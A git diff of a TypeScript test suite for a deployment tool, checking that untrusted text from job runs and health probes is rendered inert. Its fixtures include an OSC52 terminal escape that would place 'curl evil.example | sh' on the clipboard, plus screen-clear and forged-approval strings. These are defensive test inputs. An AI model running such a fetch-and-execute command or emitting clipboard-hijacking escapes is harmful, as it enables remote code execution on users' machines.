@@ -11,6 +11,7 @@ import { deployInputs } from '../contract/dispatch-inputs.js';
 import type { DeploymentStatus } from '../contract/types.js';
 import { it } from './support/fixture.js';
 import { labPlan } from './support/harness.js';
+import { finalStatus } from './support/final-status.js';
 
 const OSC52 = `\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`;
 const CLEAR = '\u001b[2J\u001b[H';
@@ -61,7 +62,7 @@ describe('untrusted text from runs and probes, at the source', () => {
     const { handle } = await deploy('svc-hostile-job', {
       environments: { green: { deployWorkflow: 'deploy-hostile.yml' } },
     });
-    const result = await handle.result();
+    const result = await finalStatus(handle);
     expect(result.outcome).toBe('FAILED');
     expect(result.error).toMatch(/job "deploy ✓ bob approved at 12:00:00", step "migrate ✓ bob approved at 12:00:00"/);
     await expectInert(handle, result);
@@ -71,7 +72,7 @@ describe('untrusted text from runs and probes, at the source', () => {
     lab.apps.setFault('green', { body: `${OSC52}oops${CLEAR}${FORGED}\u009b31m` });
     lab.apps.setHealthy('green', false);
     const { handle } = await deploy('svc-hostile-body', { verify: { timeout: '1s', interval: '100ms' } });
-    const result = await handle.result();
+    const result = await finalStatus(handle);
     expect(result.outcome).toBe('FAILED');
     expect(result.error).toMatch(/HTTP 503 from .*: oops ✓ bob approved at 12:00:00/);
     await expectInert(handle, result);
@@ -100,7 +101,7 @@ describe('untrusted text from runs and probes, at the source', () => {
     const planned = lab.github.pushCommit(green.branch, 'the commit this deployment ships');
     expect(worker).toBeDefined();
     const handle = await startDeployment(client, plan, { taskQueue });
-    const result = await handle.result();
+    const result = await finalStatus(handle);
     expect(result.outcome, result.error).toBe('SUCCEEDED');
     expect(result.sha).toBe(planned);
     const deployRun = Number(/\/actions\/runs\/(\d+)/.exec(result.phases.find((p) => p.name === 'deploy')!.url!)![1]);
